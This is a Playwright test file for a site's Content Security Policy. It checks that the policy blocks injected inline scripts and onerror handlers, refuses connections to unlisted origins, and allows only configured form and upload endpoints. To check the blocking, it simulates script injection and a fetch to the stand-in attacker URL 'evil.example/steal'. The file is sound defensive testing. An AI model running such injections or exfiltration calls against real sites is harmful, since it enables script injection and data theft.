import { productionPolicy } from "@/build/csp";
import { DEFAULT_AVATAR } from "@/features/testimonials/constants";
import type { Browser } from "@playwright/test";
import { collectCspViolations, expect, test, type CspViolation, type Page } from "./fixtures";

// The policy blocks what an attacker would inject, and the fixture every test uses sees it. The
// violations are recorded in a context of this test's own, so the fixture of this test (which
// watches the default context) stays clean.
/** Runs `body` on a page of a context of its own, with that context's violations recorded. */
async function ownPage(
  browser: Browser,
  baseURL: string | undefined,
  body: (page: Page, violations: CspViolation[]) => Promise<void>,
) {
  const context = await browser.newContext({ baseURL: baseURL! });
  try {
    const violations = await collectCspViolations(context);
    await body(await context.newPage(), violations);
  } finally {
    await context.close();
  }
}

test("an injected inline script is blocked and the CSP fixture records it", async ({
  browser,
  baseURL,
}) => {
  await ownPage(browser, baseURL, async (page, violations) => {
    await page.goto("/");
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "document.body.dataset.injected = 'ran'";
      document.body.append(script);
      const img = document.createElement("img");
      img.setAttribute("onerror", "document.body.dataset.handler = 'ran'");
      img.src = "/no-such-image.png";
      document.body.append(img);
    });
    // Each blocked injection is reported twice, on the console and as a violation event, in no
    // set order: wait for both events (the script's and the handler's), not for a count.
    await expect
      .poll(() => violations)
      .toEqual(
        expect.arrayContaining([
          expect.objectContaining({ directive: "script-src-elem", blocked: "inline" }),
          expect.objectContaining({ directive: "script-src-attr", blocked: "inline" }),
        ]),
      );
    expect(await page.evaluate(() => document.body.dataset.injected)).toBeUndefined();
    expect(await page.evaluate(() => document.body.dataset.handler)).toBeUndefined();
  });
});

test("a connection to an origin the policy does not list is blocked and recorded", async ({
  browser,
  baseURL,
}) => {
  await ownPage(browser, baseURL, async (page, violations) => {
    await page.goto("/contact");
    await page.evaluate(() => fetch("https://evil.example/steal").catch(() => null));
    await expect
      .poll(() => violations.map((v) => `${v.directive} ${v.blocked}`))
      .toContain("connect-src https://evil.example/steal");
  });
});

test("the live policy lets a page reach the configured forms and the cloud's upload path, and no other path of their hosts", async ({
  browser,
  baseURL,
}) => {
  // The policy a deploy writes for these settings, served on a page of the site's origin; the
  // services are stood in by routes, which only what the policy lets through reaches.
  const forms = ["https://formspree.io/f/abcdwxyz", "https://formspree.io/f/efghstuv"];
  const policy = productionPolicy({
    scriptHashes: [],
    contactEndpoint: forms[0],
    testimonialEndpoint: forms[1],
    cloudName: "amara",
  });
  const allowed = [...forms, "https://api.cloudinary.com/v1_1/amara/image/upload"];
  const refused = [
    "https://formspree.io/f/someoneelse",
    "https://formspree.io/f/abcdwxyz/more",
    "https://api.cloudinary.com/v1_1/other/image/upload",
    "https://api.cloudinary.com/v1_1/amara/image/destroy",
  ];
  await ownPage(browser, baseURL, async (page, violations) => {
    const reached: string[] = [];
    await page.context().route(/^https:\/\/(formspree\.io|api\.cloudinary\.com)\//, (route) => {
      reached.push(route.request().url());
      return route.fulfill({ headers: { "access-control-allow-origin": "*" }, body: "{}" });
    });
    await page.route("**/csp-probe", (route) =>
      route.fulfill({
        contentType: "text/html",
        headers: { "content-security-policy": policy },
        body: "<!doctype html><title>probe</title>",
      }),
    );
    await page.goto("/csp-probe");
    const outcomes = await page.evaluate(
      (urls) =>
        Promise.all(
          urls.map((url) =>
            fetch(url, { method: "POST", body: "{}" }).then(
              () => `sent ${url}`,
              () => `refused ${url}`,
            ),
          ),
        ),
      [...allowed, ...refused],
    );
    expect(outcomes).toEqual([
      ...allowed.map((url) => `sent ${url}`),
      ...refused.map((url) => `refused ${url}`),
    ]);
    expect(reached.sort()).toEqual([...allowed].sort());
    await expect
      .poll(() =>
        violations
          .filter((v) => v.directive !== "console")
          .map((v) => `${v.directive} ${v.blocked}`)
          .sort(),
      )
      .toEqual(refused.map((url) => `connect-src ${url}`).sort());
  });
});

test("a testimonial card added later falls back to the default avatar without inline handlers", async ({
  page,
}) => {
  await page.route("**/broken-avatar-*.jpg", (route) => route.fulfill({ status: 404, body: "" }));
  await page.goto("/expertise");
  await page.evaluate(async () => {
    const card = document.querySelector("figure")!;
    // One image fails before its card is in the page, one after.
    const early = card.cloneNode(true) as HTMLElement;
    early.dataset.test = "early";
    const earlyImg = early.querySelector<HTMLImageElement>('[data-field="image"]')!;
    earlyImg.loading = "eager";
    await new Promise((resolve) => {
      earlyImg.addEventListener("error", resolve, { once: true });
      earlyImg.src = "/broken-avatar-1.jpg";
    });
    card.after(early);
    const late = card.cloneNode(true) as HTMLElement;
    late.dataset.test = "late";
    const lateImg = late.querySelector<HTMLImageElement>('[data-field="image"]')!;
    lateImg.loading = "eager";
    lateImg.src = "/broken-avatar-2.jpg";
    card.after(late);
  });
  for (const name of ["early", "late"]) {
    await expect(page.locator(`[data-test="${name}"] img`)).toHaveAttribute("src", DEFAULT_AVATAR);
  }
  expect(await page.locator("[onerror], [onload], [onclick]").count()).toBe(0);
});
